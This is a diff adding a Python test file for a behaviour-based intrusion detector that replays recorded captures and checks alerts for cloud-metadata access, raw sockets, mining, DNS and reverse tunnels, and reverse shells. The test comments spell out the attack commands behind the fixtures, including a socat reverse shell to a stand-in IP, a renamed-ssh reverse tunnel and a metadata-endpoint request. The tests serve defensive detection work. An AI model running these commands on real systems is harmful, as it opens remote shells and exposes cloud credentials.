@@ -1,0 +1,84 @@
+"""Detectors on captured episodes (tests/fixtures, recorded with `eptrace run --capture`): no kernel, no root.
+
+Fixtures were captured from the real scenarios in the test network: see each test for what ran.
+"""
+from pathlib import Path
+
+import pytest
+
+from tracer import config as config_module
+from tracer.capture import CaptureError, replay
+from tracer.outputs import Fanout, KindFilter
+from tracer.schema import EcsEncoder
+
+FIXTURES = Path(__file__).parent.parent / "fixtures"
+SHORT = config_module.load(FIXTURES / "short_long_flow.toml")   # long_flow_seconds = 5, updates every 1 s
+
+
+class Collect:
+    name = "collect"
+    sent = 0
+    dropped: dict = {}
+
+    def __init__(self):
+        self.docs = []
+
+    def write(self, doc):
+        self.docs.append(doc.fields())
+
+    def flush(self):
+        pass
+
+    def close(self):
+        pass
+
+
+def alerts(capture, config=None):
+    sink = Collect()
+    replay(FIXTURES / capture, EcsEncoder("replay", "test"), KindFilter(Fanout([sink]), {"alert"}), config=config)
+    return sink.docs
+
+
+def rules(docs):
+    return sorted(d["rule"]["name"] for d in docs)
+
+
+def test_metadata_access_and_raw_socket():
+    # python3 in the sandbox: GET http://169.254.169.254/, then socket(AF_INET, SOCK_RAW, ICMP)
+    docs = alerts("metadata_and_raw_socket.capture")
+    assert rules(docs) == ["cloud_metadata_access", "raw_socket"]
+    metadata = next(d for d in docs if d["rule"]["name"] == "cloud_metadata_access")
+    assert metadata["destination"]["ip"] == "169.254.169.254" and metadata["network"]["community_id"]
+
+
+def test_idle_tunnel_from_a_renamed_ssh_stratum_and_dns_tunnel():
+    # Stratum login to :3333, one 120-character DNS query, and `sysupdate -N -R 9000:127.0.0.1:8000`
+    # (a copy of ssh under another name) left idle for 9 s, with long_flow_seconds = 5.
+    docs = alerts("idle_tunnel_stratum_dns.capture", SHORT)
+    assert rules(docs) == ["crypto_mining", "dns_tunnel", "reverse_tunnel"]
+    tunnel = next(d for d in docs if d["rule"]["name"] == "reverse_tunnel")
+    assert "not an SSH client" in tunnel["message"] and tunnel["process"]["name"] == "sysupdate"
+
+
+def test_the_idle_tunnel_needs_its_duration():
+    # With the default long_flow_seconds (600) the 9-second tunnel is not yet a tunnel by behaviour.
+    assert "reverse_tunnel" not in rules(alerts("idle_tunnel_stratum_dns.capture"))
+
+
+def test_reverse_shells_alert_once_each():
+    # socat TCP:198.51.100.1:4444 EXEC:'bash -li',pty,stderr,setsid; then a python dup2 + pty.spawn shell
+    docs = alerts("reverse_shells.capture")
+    assert rules(docs) == ["reverse_shell", "reverse_shell"]
+    assert {d["destination"]["port"] for d in docs if "destination" in d} <= {4444, 4445}
+
+
+def test_benign_work_raises_nothing():
+    # a 4 MB curl download, `ssh host true`, a DNS query, a keep-alive HTTP session
+    assert alerts("benign.capture", SHORT) == []
+
+
+def test_a_file_that_is_no_capture_is_a_clear_error(tmp_path):
+    bad = tmp_path / "x.capture"
+    bad.write_bytes(b"\x93\xa3abc")
+    with pytest.raises(CaptureError, match="not an eptrace capture"):
+        replay(bad, EcsEncoder("h", "0"), Fanout([]))
